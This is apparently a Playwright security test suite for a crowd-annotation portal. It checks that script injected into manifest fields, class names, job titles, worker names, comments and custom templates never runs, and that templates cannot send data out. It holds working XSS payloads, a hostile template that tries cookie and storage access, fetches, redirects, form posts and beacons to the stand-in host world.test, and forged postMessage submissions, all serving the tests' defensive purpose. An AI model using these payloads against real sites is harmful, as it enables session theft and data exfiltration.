"""Scripts where there should be text: nothing of them may run as the portal."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Route

from tests.portal_server.conftest import Visitor
from tests.support.portal_desk import PortalDesk

Visit = Callable[[], Visitor]
EVIL = '</script></textarea>"\'><img src=x onerror="top.hacked=1"><script>top.hacked=1</script>'


def test_script_in_a_manifest_field_and_in_a_class_name(desk: PortalDesk, visitor: Visit):
    desk.start([{"source": EVIL}], labels=[EVIL, "b"])
    ann = visitor()
    alerts: list[str] = []
    ann.page.on("dialog", lambda dialog: alerts.append(dialog.message))
    ann.sign_in("Ann")
    ann.start()
    ann.task.get_by_text(EVIL).first.wait_for()  # seen, letter for letter
    ran = ann.page.frames[1].evaluate("document.querySelectorAll('img, script:not([src])').length")
    assert ran == 0
    ann.has_the_keyboard()
    ann.keys("1", "Enter")
    ann.page.get_by_text("That was the last task of this job").wait_for()
    [line] = desk.output()
    assert line["fruit-metadata"]["class-name"] == EVIL


def test_script_in_a_job_title_and_in_a_workers_name(desk: PortalDesk, visitor: Visit):
    title = "<img src=x onerror=document.title='hacked'>"
    desk.start(1, TaskTitle=title, TaskDescription=title)
    ann = visitor()
    ann.sign_in(f"Ann {title}"[:60])
    ann.page.get_by_role("heading", name=title).wait_for()
    ann.start()
    assert "hacked" not in ann.page.evaluate("document.title").replace(title, "")
    assert ann.page.evaluate("document.querySelectorAll('img').length") == 0


def test_script_in_a_workers_comment(desk: PortalDesk):
    desk.start(1, custom=True)
    ann = desk.worker("Ann")
    task = ann.take()
    assert task is not None
    ann.submit(task["taskId"], {"comment": EVIL})
    folder = "s3://desk-out/jobs/fruit-1/annotations/worker-response/iteration-1/0/"
    [file] = desk.objects.list(folder)
    [answer] = json.loads(desk.objects.read(file.uri)[0])["answers"]
    assert answer["answerContent"] == {"comment": EVIL}  # kept as data, and never shown by us


def test_a_template_can_reach_neither_the_portal_nor_the_world(desk: PortalDesk, visitor: Visit):
    desk.start(1, template=HOSTILE, custom=True)
    ann = visitor()
    gone_out = listen_to_the_world(ann)
    ann.sign_in("Ann")
    ann.start()
    ann.task.get_by_text("all tried").wait_for()
    results = json.loads(ann.task.locator("#results").inner_text())
    assert results == {
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "parent": "SecurityError",
        "top": "SecurityError",
        "fetch portal": "TypeError",
        "fetch world": "TypeError",
        "popup": "null",
    }
    ann.page.wait_for_timeout(500)
    assert gone_out == []
    assert ann.page.url.startswith(ann.address)


@pytest.mark.parametrize(
    "leave", ["location.href = 'https://world.test/?data=1'", "document.forms[0].submit()"]
)
def test_a_template_cannot_go_elsewhere(desk: PortalDesk, visitor: Visit, leave: str):
    desk.start(1, template=LEAVING.replace("LEAVE", leave), custom=True)
    ann = visitor()
    gone_out = listen_to_the_world(ann)
    ann.sign_in("Ann")
    ann.page.get_by_role("link", name="Start").click()
    ann.page.wait_for_timeout(1500)
    assert gone_out == []


@pytest.mark.parametrize("sender", ["top", "hidden frame"])
def test_messages_count_only_from_the_task_in_sight(desk: PortalDesk, visitor: Visit, sender: str):
    desk.start(2)
    ann = visitor()
    ann.sign_in("Ann")
    ann.start()
    ann.sees("text 0")
    forged = "{type:'crowd-submit',protocol:1,answer:{label:{label:'ripe'}}}"
    if sender == "top":
        ann.page.evaluate(f"window.postMessage({forged}, '*')")
    else:
        ann.page.frame_locator("iframe.waiting").locator("crowd-form").wait_for(state="attached")
        hidden = next(f for f in ann.page.frames if f.url.endswith("/fruit-1/1"))
        hidden.evaluate(f"parent.postMessage({forged}, '*')")
    ann.page.wait_for_timeout(500)
    ann.sees("text 0")
    assert [job["done"] for job in desk.worker("Ann").jobs()] == [0]


def listen_to_the_world(visitor: Visitor) -> list[str]:
    """The addresses outside that are asked for from now on; what a policy stops is not."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    visitor.page.context.route("https://world.test/**", note)
    return asked


HOSTILE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<link rel="stylesheet" href="https://world.test/style.css">
<link rel="preconnect" href="https://world.test">
<img src="https://world.test/pixel.png?data=1" alt="">
<iframe src="https://world.test/frame" title="x"></iframe>
<crowd-form><p id="results"></p><p id="done"></p></crowd-form>
<script>
const results = {};
const attempt = async (name, act) => {
  try { results[name] = String(await act()); } catch (error) { results[name] = error.name; }
};
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location.href = "https://world.test/top"; });
  await attempt("fetch portal", () => fetch("/"));
  await attempt("fetch world", () => fetch("https://world.test/data"));
  await attempt("popup", () => window.open("https://world.test/popup"));
  navigator.sendBeacon("https://world.test/beacon", "data");
  document.getElementById("results").textContent = JSON.stringify(results);
  document.getElementById("done").textContent = "all tried";
})();
</script>"""

LEAVING = """<p>Here.</p>
<form action="https://world.test/form" method="post"><input name="data" value="1"></form>
<script>LEAVE</script>"""
